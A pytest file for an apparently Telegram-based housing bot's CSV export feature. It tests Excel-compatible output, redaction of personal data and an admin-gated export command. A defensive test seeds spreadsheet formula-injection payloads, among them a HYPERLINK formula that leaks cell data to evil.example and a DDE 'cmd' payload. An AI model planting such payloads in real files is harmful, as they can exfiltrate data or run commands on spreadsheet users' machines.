"""CSV exports for Italian Excel, parsed back the way Excel reads them (UTF-8 with BOM, ";"), with and without
personal data, and the `qcbot export` command with its admin check and progress lines."""

from __future__ import annotations

import argparse
import csv
import io
from datetime import date, datetime, timedelta
from zoneinfo import ZoneInfo

import pytest

from bot.export_cli import add_export_command
from storage.domain import export, users
from storage.domain.export import ExportRequest
from storage.domain.feedback import new_id
from storage.models import Booking, Feedback, Ticket
from storage.domain.stats import Period
from storage.db import Database
from tests.conftest import SAMPLE_CONTENT, run_blocking

ROME = ZoneInfo("Europe/Rome")
MARCH = Period.month(2027, 3)
TENANT, ADMIN = 1001, 4242


async def seed(db, bookings: int = 3) -> None:  # type: ignore[no-untyped-def]
    async with db.write() as session:
        await users.touch_user(session, TENANT, "Amal", "it", datetime(2027, 3, 1, tzinfo=ROME))
        for index in range(bookings):
            start = datetime(2027, 3, 2, 9, 30, tzinfo=ROME) + timedelta(hours=index)
            session.add(Booking(user_id=TENANT, chat_id=TENANT, service_id="omero-digital-desk", space_id="omero",
                                slot_start=start, slot_end=start + timedelta(minutes=30), status="attended",
                                name="Amal Haddad", phone="+393331234567", language="ar", holds_quota=False,
                                created_at=datetime(2027, 2, 27, 18, tzinfo=ROME)))
        session.add(Booking(user_id=TENANT, chat_id=TENANT, service_id="omero-digital-desk", space_id="omero",
                            slot_start=datetime(2027, 4, 1, 9, tzinfo=ROME), slot_end=datetime(2027, 4, 1, 10, tzinfo=ROME),
                            status="active", name="Amal Haddad", language="ar", holds_quota=True,
                            created_at=datetime(2027, 3, 20, tzinfo=ROME)))
        created = datetime(2027, 3, 31, 23, 30, tzinfo=ROME)  # 22:30 UTC: still March in Milan
        session.add(Ticket(code="QC-2027-000001", status="acknowledged", category_id="lift", urgency="urgent", ack_hours=4,
                           estate_id="omero-mompiani", flat="int. 12", description="Bloccato; con \"mia figlia\" dentro",
                           reporter_id=TENANT, created_at=created, updated_at=created,
                           acknowledged_at=created + timedelta(hours=1, minutes=30), affected=2, escalations=0))
        session.add(Feedback(id=new_id(), kind="rating", space_id="omero", service_id="omero-parcels", user_id=None,
                             stars=4, comment="Ottimo; grazie", day=date(2027, 3, 5)))


async def exported(db, sample_content, what: str, personal: bool = False) -> tuple[str, list[list[str]]]:  # type: ignore[no-untyped-def]
    data, count = await export.csv_bytes(db, ExportRequest(what, MARCH, personal), sample_content, ROME)
    assert data.startswith(b"\xef\xbb\xbf")  # the BOM Excel needs to read UTF-8
    text = data.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    assert len(rows) == count + 1 and all(len(row) == len(rows[0]) for row in rows)
    return text, rows


async def test_bookings_without_personal_data(db, sample_content):
    await seed(db)
    text, rows = await exported(db, sample_content, "bookings")
    assert rows[0] == ["Codice", "Spazio", "Servizio", "Data", "Ora", "Stato", "Prenotata il"]
    assert rows[1][1:] == ["Portineria sociale Omero", "Sportello digitale", "02/03/2027", "09:30", "Presente", "27/02/2027"]
    assert len(rows) == 4  # the April booking is outside the period
    assert "Amal" not in text and "333" not in text and str(TENANT) not in text


async def test_bookings_with_personal_data(db, sample_content):
    await seed(db)
    _text, rows = await exported(db, sample_content, "bookings", personal=True)
    assert rows[0][-3:] == ["Nome", "Telefono", "ID Telegram"]
    assert rows[1][-3:] == ["Amal Haddad", "'+393331234567", str(TENANT)]  # a leading + could start a formula


async def test_tickets_quote_what_needs_quoting_and_use_the_decimal_comma(db, sample_content):
    await seed(db)
    text, rows = await exported(db, sample_content, "tickets")
    header, row = rows
    assert dict(zip(header, row, strict=True)) == {
        "Codice": "QC-2027-000001", "Caseggiato": "Quartiere Omero", "Categoria": row[2], "Urgenza": "Urgente",
        "Stato": "Presa in carico", "Edificio": "", "Scala": "", "Aperta il": "31/03/2027", "Presa in carico il": "01/04/2027",
        "Risolta il": "", "Chiusa il": "", "Ore per la presa in carico": "1,5", "Persone coinvolte": "2", "Voto": "",
    }
    assert "int. 12" not in text and "figlia" not in text
    _text, personal = await exported(db, sample_content, "tickets", personal=True)
    assert personal[1][-5:] == ["int. 12", 'Bloccato; con "mia figlia" dentro', str(TENANT), "", ""]


async def test_feedback_never_names_anyone(db, sample_content):
    await seed(db)
    _text, rows = await exported(db, sample_content, "feedback", personal=True)
    assert rows[1] == ["05/03/2027", "Voto", "Portineria sociale Omero", rows[1][3], "4", "Ottimo; grazie", ""]


async def test_cells_that_excel_would_run_as_formulas_are_written_as_text(db, sample_content):
    formulas = ['=HYPERLINK("http://evil.example/?"&A1;"clic")', "+39 333", "-1+1", "@SUM(A1)", "\tTab", "\rCR"]
    async with db.write() as session:
        for index, comment in enumerate(formulas):
            session.add(Feedback(id=new_id(), kind="complaint", space_id="omero", service_id="", user_id=None,
                                 stars=None, comment=comment, day=date(2027, 3, 6 + index)))
        created = datetime(2027, 3, 10, 9, tzinfo=ROME)
        session.add(Ticket(code="QC-2027-000009", status="new", category_id="lift", urgency="normal", ack_hours=4,
                           estate_id="omero-mompiani", description="=cmd|' /C calc'!A0", tenant_name="@Amal",
                           tenant_contact="+393331234567", reporter_id=None, created_at=created, updated_at=created,
                           affected=1, escalations=0))
    _text, rows = await exported(db, sample_content, "feedback", personal=True)
    assert sorted(row[5] for row in rows[1:]) == sorted("'" + formula for formula in formulas)
    _text, rows = await exported(db, sample_content, "tickets", personal=True)
    assert rows[1][-5:] == ["", "'=cmd|' /C calc'!A0", "", "'@Amal", "'+393331234567"]
    assert export.cell("Ottimo") == "Ottimo" and export.cell("") == ""


async def test_an_unknown_export_is_refused(db, sample_content):
    with pytest.raises(ValueError, match="choose one of"):
        await export.csv_bytes(db, ExportRequest("users", MARCH), sample_content, ROME)


# --------------------------------------------------------------------------------------------
# qcbot export


def run_command(argv: list[str]) -> None:
    parser = argparse.ArgumentParser(prog="qcbot")
    add_export_command(parser.add_subparsers(dest="command", required=True))
    args = parser.parse_args(argv)
    args.func(args)


@pytest.fixture
def environment(monkeypatch, sqlite_url, tmp_path):  # type: ignore[no-untyped-def]
    monkeypatch.setenv("QC_DATABASE_URL", sqlite_url)
    monkeypatch.setenv("QC_CONTENT_DIR", str(SAMPLE_CONTENT))
    monkeypatch.setenv("QC_DATA_DIR", str(tmp_path))
    monkeypatch.setenv("QC_ADMIN_IDS", str(ADMIN))
    monkeypatch.delenv("QC_TIMEZONE", raising=False)
    return sqlite_url


def test_qcbot_export_writes_a_file_and_shows_progress(environment, tmp_path, capsys, monkeypatch):
    async def seeded() -> None:
        db = Database(environment)
        await seed(db, bookings=7)
        await db.dispose()

    run_blocking(seeded())
    monkeypatch.setattr(export, "BATCH", 2)
    monkeypatch.setattr(export, "PROGRESS_EVERY", 3)
    target = tmp_path / "prenotazioni.csv"
    run_command(["export", "--from", "2027-03-01", "--to", "2027-03-31", "--what", "bookings", "--output", str(target)])
    rows = list(csv.reader(io.StringIO(target.read_text(encoding="utf-8-sig"), newline=""), delimiter=";"))
    assert len(rows) == 8 and rows[1][3] == "02/03/2027"
    err = capsys.readouterr().err
    assert "rows written…" in err and f"7 row(s) written to {target}" in err


@pytest.mark.parametrize("admin_id", [None, "999"])
def test_personal_data_needs_an_admin_id(environment, capsys, admin_id):
    argv = ["export", "--from", "2027-03-01", "--to", "2027-03-31", "--what", "tickets", "--with-personal-data"]
    if admin_id:
        argv += ["--admin-id", admin_id]
    with pytest.raises(SystemExit) as exit_info:
        run_command(argv)
    assert exit_info.value.code == 2
    assert "QC_ADMIN_IDS" in capsys.readouterr().err


def test_dates_must_be_in_order(environment, capsys):
    with pytest.raises(SystemExit):
        run_command(["export", "--from", "2027-03-31", "--to", "2027-03-01", "--what", "feedback"])
    assert "swap them" in capsys.readouterr().err
